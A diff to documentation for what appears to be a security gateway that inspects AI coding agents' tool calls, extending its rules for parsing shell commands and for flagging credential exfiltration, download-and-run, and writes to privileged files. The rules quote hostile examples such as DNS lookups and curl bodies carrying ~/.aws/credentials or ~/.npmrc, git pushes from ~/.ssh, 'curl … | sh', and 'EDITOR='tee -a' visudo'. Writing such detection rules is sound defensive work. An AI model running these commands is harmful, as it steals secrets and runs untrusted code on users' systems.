@@ -47,8 +47,11 @@ In the gateway config::
 
 The built-in rules judge what a call does to which target, not how it is spelled. They read
 the shell command of any tool (a ``command``, ``cmd``, ``commands``, ``script`` or
-``…_command`` argument at any depth; an argv list like Codex's too; the ``args`` of an MCP
-tool named for the program it runs, like ``run_gcloud_command``) as a shell would: split
+``…_command`` argument at any depth, Windsurf's ``CommandLine`` (where it runs: Codex's
+``workdir``, ``cwd``, Windsurf's ``Cwd``); an argv list like Codex's too; the ``args`` of an
+MCP tool named for the program it runs, like ``run_gcloud_command``; Amazon Q's ``use_aws``
+as the ``aws`` command its service, operation and parameters make; the MCP tool Cline's and
+Roo's ``use_mcp_tool`` calls, as that tool) as a shell would: split
 into simple commands (``;``, ``&&``, pipes, subshells, ``$(…)``; input read from a process
 substitution, ``cmd < <(…)``, flowing in as a pipe's would), seen through wrappers
 (``sudo``, ``env``, ``timeout``, ``nohup``, ``runuser``, ``setsid``, ``nsenter``, launchers
@@ -260,7 +263,9 @@ one that runs a command in a container or a pod it names (``run_container`` with
   (Get-Content …)``, ``-Body (Get-ChildItem env: | Out-String)``, a variable holding it,
   piped in), put by the script of ``sftp``, ``ftp``, ``lftp`` or ``smbclient`` (``sftp h <<<
   'put ~/.kube/config'``, a here-document, ``-b`` batch file written in the line, ``-c``),
-  looked up as a name (``dig $(… ~/.aws/credentials …).x.com``), a piece at a time by a loop
+  looked up as a name (``dig $(… ~/.aws/credentials …).x.com``), in the pieces ``split``
+  wrote, sent in a loop, committed and pushed from the credential folder itself (``cd
+  ~/.ssh && git init && git add -A && … git push``), a piece at a time by a loop
   over its encoding (``for l in $(xxd -p ~/.npmrc); do dig $l.x.com; done``, ``base64 F |
   while read l``) whose body gives the variable to a lookup or a sender, or by a one-liner
   whose socket, HTTP client or DNS lookup carries one or the whole environment
@@ -274,7 +279,8 @@ one that runs a command in a container or a pod it names (``run_container`` with
   name) piped in whole as curl's body or upload (``echo $AWS_SECRET_ACCESS_KEY | curl -d
   @-``) or into a raw socket, but not into a login, a header (``-H @-``) or as one field of
   a body (``-d client_secret=$CLIENT_SECRET`` asks a token endpoint for a token); a
-  private key or a cloud secret (``aws_secret_access_key = …``) given to a service's tool
+  private key or a cloud secret (``aws_secret_access_key = …``, a kubeconfig's
+  ``client-key-data``) given to a service's tool
   (GitHub's ``create_or_update_file``, a gist, a message), not a file tool's local write;
 - ``download_exec``: a download run unread: ``curl … | sh``, ``wget -O- … | sudo bash``,
   ``curl … | python3``, a download held in a variable and run (``C=$(curl …); bash -c
@@ -349,7 +355,13 @@ one that runs a command in a container or a pod it names (``run_container`` with
   ``visudo``, ``sudoedit`` or ``vipw`` with a program for its editor (``EDITOR='tee -a'
   visudo``; an agent has no terminal for a real one), or as the path of a file-writing tool
   (Claude Code's ``Write``, ``Edit``, ``MultiEdit``, ``NotebookEdit``; Gemini CLI's
-  ``write_file``, ``replace``; Cursor's ``edit_file``; an MCP server's ``write_file``).
+  ``write_file``, ``replace``; Cursor's ``edit_file``; Cline's and Roo's ``write_to_file``,
+  ``replace_in_file``, ``apply_diff``; Copilot's ``create_file``; Amazon Q's ``fs_write``;
+  Continue's ``builtin_create_new_file``; the editors of OpenHands, Goose and Anthropic's
+  text editor tool, but their ``view``; an MCP server's ``write_file``; by ``file_path``,
+  ``path``, ``filePath``, ``TargetFile``, …); a cloud CLI's copy onto one (``aws s3 cp
+  s3://b/credentials ~/.aws/credentials``, ``gsutil cp``, ``gcloud storage cp``, ``rclone
+  copyto``).
 
 They let through, deliberately: deleting build outputs, ``node_modules``, files under the
 project or one file under home (``> ~/.bashrc`` overwrites a file, not the home folder); a
